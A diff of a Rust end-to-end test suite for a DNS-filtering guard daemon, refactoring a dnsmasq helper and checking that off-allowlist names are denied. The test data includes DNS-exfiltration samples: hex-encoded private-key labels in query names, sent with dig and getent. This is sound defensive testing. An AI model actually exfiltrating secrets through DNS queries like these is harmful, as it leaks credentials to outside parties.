@@ -9,12 +9,10 @@ use std::ffi::OsStr;
 use std::io::Read as _;
 use std::net::{Ipv4Addr, TcpListener};
 use std::path::Path;
-use std::process::{Child, Command, Stdio};
-use std::time::Duration;
+use std::process::Command;
 
-use guard_tests::{
-    Daemon, Enforcing, Event, EventsTo, NetNs, dump, fake_agent_exe, scaled, wait_until,
-};
+use guard_tests::dnsmasq::{Dnsmasq, NsResolvConf};
+use guard_tests::{Daemon, Enforcing, Event, EventsTo, NetNs, dump, fake_agent_exe};
 
 const ZONE: &str = "guard-test.example";
 /// A name the policy allows.
@@ -26,60 +24,15 @@ const EXFIL_LONG: &str =
     "2d2d2d2d2d424547494e204f50454e53.53482050524956415445204b4559.2d2d2d2d2d0a.guard-test.example";
 
 /// dnsmasq answering every name of [`ZONE`] (and registry.npmjs.org) with 127.0.0.1,
-/// listening on `addr`:53
-/// (UDP and TCP), logging each query it gets; stopped at drop.
-struct Dnsmasq {
-    child: Child,
-    log: std::path::PathBuf,
-}
-
-impl Dnsmasq {
-    /// Started by `cmd` (`dnsmasq`, or `ip netns exec NS dnsmasq`), on `addr`.
-    fn start(mut cmd: Command, addr: Ipv4Addr, dir: &Path) -> Dnsmasq {
-        let log = dir.join(format!("dnsmasq-{addr}.log"));
-        let out = std::fs::File::create(&log).expect("create the dnsmasq log");
-        cmd.args([
-            "--keep-in-foreground",
-            "--conf-file=/dev/null",
-            "--no-resolv",
-            "--no-hosts",
-            "--bind-interfaces",
-            "--port=53",
-            "--log-queries",
-            "--log-facility=-",
-            "--pid-file=",
-            "--user=root",
-        ])
-        .arg(format!("--listen-address={addr}"))
-        .arg(format!("--address=/{ZONE}/127.0.0.1"))
-        // A registry's name, in a namespace of the test's (no query leaves it).
-        .arg("--address=/registry.npmjs.org/127.0.0.1")
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(out);
-        let child = cmd.spawn().expect("start dnsmasq (a test dependency)");
-        let d = Dnsmasq { child, log };
-        wait_until("dnsmasq listens", scaled(Duration::from_secs(10)), || {
-            d.queries().contains("cleared cache")
-        });
-        d
-    }
-
-    /// Its log: every query it got (`query[A] NAME from ...`).
-    fn queries(&self) -> String {
-        let mut s = String::new();
-        if let Ok(mut f) = std::fs::File::open(&self.log) {
-            let _ = f.read_to_string(&mut s);
-        }
-        s
-    }
-}
-
-impl Drop for Dnsmasq {
-    fn drop(&mut self) {
-        let _ = self.child.kill();
-        let _ = self.child.wait();
-    }
+/// listening on `addr`:53.
+fn dnsmasq(cmd: Command, addr: Ipv4Addr, dir: &Path) -> Dnsmasq {
+    Dnsmasq::start(
+        cmd,
+        addr,
+        &[ZONE, "registry.npmjs.org"],
+        Ipv4Addr::LOCALHOST,
+        dir,
+    )
 }
 
 /// A loopback address of its own for the test's DNS server (port 53 on it).
@@ -131,7 +84,7 @@ fn names_off_the_allowlist_never_leave_and_allowed_ones_resolve() {
     let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver", POLICY, |d| {
         std::fs::write(d.join("secret"), "s3cret\n").expect("write the secret");
     });
-    let dns = Dnsmasq::start(Command::new("dnsmasq"), server, t.dir.path());
+    let dns = dnsmasq(Command::new("dnsmasq"), server, t.dir.path());
     let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen");
     let port = listener.local_addr().expect("addr").port();
 
@@ -170,7 +123,10 @@ fn names_off_the_allowlist_never_leave_and_allowed_ones_resolve() {
         "{queries}"
     );
     for label in ["6b65793d31", "2d2d2d2d2d424547"] {
-        assert!(!queries.contains(label), "{label} reached the server:\n{queries}");
+        assert!(
+            !queries.contains(label),
+            "{label} reached the server:\n{queries}"
+        );
     }
 
     let mine = Enforcing::of_run(&events, &run);
@@ -228,7 +184,7 @@ allow = ["127.0.0.0/8"]
 action = "deny"
 "#;
     let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver-log", rules, |_| {});
-    let dns = Dnsmasq::start(Command::new("dnsmasq"), server, t.dir.path());
+    let dns = dnsmasq(Command::new("dnsmasq"), server, t.dir.path());
     let dig = format!("dig +tries=1 +time=3 +short @{server}");
     let (run, events) = t.sh(&format!(
         "{dig} {ALLOWED} > {{dir}}/a.out; {dig} {EXFIL} > {{dir}}/b.out"
@@ -259,20 +215,7 @@ action = "deny"
 fn a_build_in_a_namespace_of_its_own_resolves_its_registry_under_the_ci_policy() {
     let ns = NetNs::new();
     let veth = ns.veth();
-    let etc = Path::new("/etc/netns").join(ns.name());
-    std::fs::create_dir_all(&etc).expect("mkdir /etc/netns/NS");
-    std::fs::write(
-        etc.join("resolv.conf"),
-        format!("nameserver {}\noptions attempts:1 timeout:2\n", veth.peer),
-    )
-    .expect("write resolv.conf");
-    struct Cleanup(std::path::PathBuf);
-    impl Drop for Cleanup {
-        fn drop(&mut self) {
-            let _ = std::fs::remove_dir_all(&self.0);
-        }
-    }
-    let _etc = Cleanup(etc);
+    let _resolv = NsResolvConf::new(ns.name(), veth.peer);
     let dir = guard_tests::TempDir::new("guard-e2e-resolver-ci");
     let agent = guard_tests::FakeAgent::install(fake_agent_exe!());
     // The built-in ci policy, for this test's agent.
@@ -287,7 +230,7 @@ fn a_build_in_a_namespace_of_its_own_resolves_its_registry_under_the_ci_policy()
     );
     let args = [OsStr::new("--policy"), policy.as_os_str()];
     let mut daemon = Daemon::start_with_args(&[], EventsTo::File, &args);
-    let dns = Dnsmasq::start(ns.command("dnsmasq"), veth.peer, dir.path());
+    let dns = dnsmasq(ns.command("dnsmasq"), veth.peer, dir.path());
     // The registry, in the namespace on its loopback (the name resolves there).
     let registry = ns.enter(|| TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen"));
     let port = registry.local_addr().expect("addr").port();
@@ -308,7 +251,10 @@ fn a_build_in_a_namespace_of_its_own_resolves_its_registry_under_the_ci_policy()
          getent hosts {EXFIL} > {d}/b.out; echo $? > {d}/b.code"
     );
     let run = agent.run(&["run", "ip", "netns", "exec", ns.name(), "sh", "-c", &script]);
-    let events = daemon.wait_for("the end of the session", guard_tests::session_ended(run.pid));
+    let events = daemon.wait_for(
+        "the end of the session",
+        guard_tests::session_ended(run.pid),
+    );
     run.assert_success();
     serve.join().expect("the registry served");
     let out = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap_or_default();
@@ -327,7 +273,8 @@ fn a_build_in_a_namespace_of_its_own_resolves_its_registry_under_the_ci_policy()
     assert!(
         violations(&mine, "dns.names")
             .iter()
-            .any(|v| v.kind() == "dns" && v.str("name") == Some(EXFIL)
+            .any(|v| v.kind() == "dns"
+                && v.str("name") == Some(EXFIL)
                 && v.str("outcome") == Some("denied")),
         "{}",
         dump(&events)
